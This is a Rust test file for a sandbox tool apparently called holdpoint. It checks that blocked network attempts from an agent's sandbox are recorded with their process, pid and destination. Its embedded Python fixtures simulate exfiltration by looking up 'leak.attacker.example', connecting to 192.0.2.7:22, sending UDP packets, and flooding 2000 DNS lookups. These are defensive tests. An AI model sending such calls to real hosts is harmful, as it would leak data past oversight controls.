//! What was refused is shown to people with process and destination, and is in the record, whoever refused it.

use std::{
    os::unix::process::CommandExt as _,
    process::Command,
    thread::sleep,
    time::{Duration, Instant},
};

use holdpoint_tests::{
    sandbox::{AGENT_UID, Ran},
    world::World,
};
use serde_json::Value;

fn refused(world: &World) -> Vec<Value> {
    let status = world.holdpoint_json(&["status"]).expect("a status");
    status["refused"].as_array().expect("a list").clone()
}

fn find<'a>(seen: &'a [Value], by: &str, destination: &str) -> &'a Value {
    let found = seen
        .iter()
        .find(|it| it["by"] == by && it["destination"] == destination);
    found.unwrap_or_else(|| panic!("{by}, {destination}: {seen:#?}"))
}

/// Everything the record has of the only session.
fn account(world: &World) -> String {
    let sessions = world
        .holdpoint_json(&["sessions", "list"])
        .expect("sessions");
    let id = sessions[0]["id"].as_str().expect("an id").to_owned();
    // The client is told of the end before the record is.
    let until = Instant::now() + Duration::from_secs(10);
    loop {
        let shown = world.holdpoint(&["sessions", "show", &id]).output();
        let account = String::from_utf8_lossy(&shown.expect("it runs").stdout).into_owned();
        if account.contains("session     closed") {
            return account;
        }
        assert!(Instant::now() < until, "{account}");
        sleep(Duration::from_millis(20));
    }
}

fn try_all(world: &World) -> Ran {
    let script = "import socket\n\
        for name in ['leak.attacker.example'] * 3:\n    \
            try: socket.gethostbyname(name)\n    \
            except OSError: pass\n\
        try:\n    \
            it = socket.create_connection(('192.0.2.7', 22), 5)\n    \
            it.sendall(b'SSH-2.0-x\\r\\n')\n    \
            it.recv(1)\n\
        except OSError: pass\n\
        for port in (123, 123):\n    \
            try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.7', port))\n    \
            except OSError: pass\n";
    world
        .sandbox()
        .run(&["/usr/bin/python3", "-c", script])
        .succeeded()
}

#[test]
fn names_and_connections_are_shown_and_recorded() {
    let world = World::start();
    let _ = try_all(&world);
    // Who connected is read from /proc first, which may take longer than the client lives.
    let until = Instant::now() + Duration::from_secs(10);
    while !refused(&world).iter().any(|it| it["by"] == "proxy") && Instant::now() < until {
        sleep(Duration::from_millis(20));
    }
    let account = account(&world);
    let seen = refused(&world);
    let name = find(&seen, "dns", "leak.attacker.example");
    assert!(name["count"].as_u64() >= Some(3), "{name}");
    assert!(
        name["session"]
            .as_str()
            .is_some_and(|it| it.starts_with("s-"))
    );
    let connection = find(&seen, "proxy", "192.0.2.7:22");
    let process = connection["process"].as_str().expect("a program");
    assert!(process.starts_with("python3"), "{connection}");
    assert!(connection["pid"].as_u64() > Some(1));
    let datagrams = find(&seen, "kernel", "192.0.2.7:123/udp");
    assert_eq!(
        (&datagrams["reason"], &datagrams["count"]),
        (&"udp".into(), &2.into())
    );
    assert_eq!(datagrams["process"], "python3");
    assert_eq!(datagrams["pid"], connection["pid"]);
    assert_eq!(datagrams["session"], connection["session"]);

    let table = world.holdpoint(&["status"]).output().expect("it runs");
    let table = String::from_utf8_lossy(&table.stdout).into_owned();
    assert!(
        table.contains("leak.attacker.example") && table.contains("192.0.2.7:22"),
        "{table}"
    );

    let lines = |part: &str| account.lines().filter(|line| line.contains(part)).count();
    assert_eq!(
        lines("times to leak.attacker.example"),
        1,
        "one event for all: {account}"
    );
    assert_eq!(lines("192.0.2.7:22 refused"), 1, "not twice: {account}");
    assert_eq!(
        lines("by the kernel, 2 times to 192.0.2.7:123/udp"),
        1,
        "{account}"
    );
}

#[test]
fn a_program_that_is_gone_by_then_has_its_name() {
    let world = World::start();
    let script = "import os, socket\n\
        it = socket.create_connection(('192.0.2.7', 22), 5)\n\
        it.sendall(b'SSH-2.0-x\\r\\n')\n\
        os._exit(0)\n";
    for _ in 0..5 {
        let _ = world
            .sandbox()
            // The session stays: what is asked at its very end may end with it.
            .run(&["sh", "-c", "/usr/bin/python3 -c \"$0\"; sleep 1", script])
            .succeeded();
    }
    let until = Instant::now() + Duration::from_secs(10);
    let connections = || {
        let all = refused(&world).into_iter();
        let proxy = all.filter(|it| it["by"] == "proxy" && it["destination"] == "192.0.2.7:22");
        proxy.collect::<Vec<_>>()
    };
    while connections().len() < 5 {
        assert!(Instant::now() < until, "{:#?}", refused(&world));
        sleep(Duration::from_millis(20));
    }
    for connection in connections() {
        let process = connection["process"].as_str().expect("a program");
        assert!(process.starts_with("python3"), "{connection}");
        assert!(connection["pid"].as_u64() > Some(1), "{connection}");
    }
}

#[test]
fn who_may_not_even_ask_is_shown() {
    let world = World::start();
    let socket = world.dir().join("run/run.sock");
    let script = "import socket, sys\n\
        it = socket.socket(socket.AF_UNIX)\n\
        it.connect(sys.argv[1])\n\
        try: it.sendall(b'garbage' * 9); it.recv(1)\n\
        except OSError: pass";
    for uid in [0, AGENT_UID] {
        let garbage = Command::new("/usr/bin/python3")
            .args(["-c", script])
            .arg(&socket)
            .uid(uid)
            .status();
        assert!(garbage.expect("it runs").success());
    }
    let until = Instant::now() + Duration::from_secs(10);
    for user in ["uid 0".to_owned(), format!("uid {AGENT_UID}")] {
        let is_it = |it: &Value| {
            it["by"] == "launcher" && it["session"].is_null() && it["process"] == *user
        };
        while !refused(&world).iter().any(is_it) {
            assert!(Instant::now() < until, "{user}: {:#?}", refused(&world));
            sleep(Duration::from_millis(20));
        }
    }
}

#[test]
fn an_agent_sets_no_pace_for_the_record() {
    let world = World::start();
    let script = "import socket\n\
        for number in range(2000):\n    \
            try: socket.gethostbyname(f'n{number}.attacker.example')\n    \
            except OSError: pass\n";
    let ran = world
        .sandbox()
        .run(&["/usr/bin/python3", "-c", script])
        .succeeded();
    // A dozen events each ten seconds.
    let most = 12 * (2 + ran.took.as_secs() as usize / 10);
    let events = account(&world).matches("refused ").count();
    assert!(events <= most, "{events} events in {:?}", ran.took);
    assert!(refused(&world).len() <= 256);
}
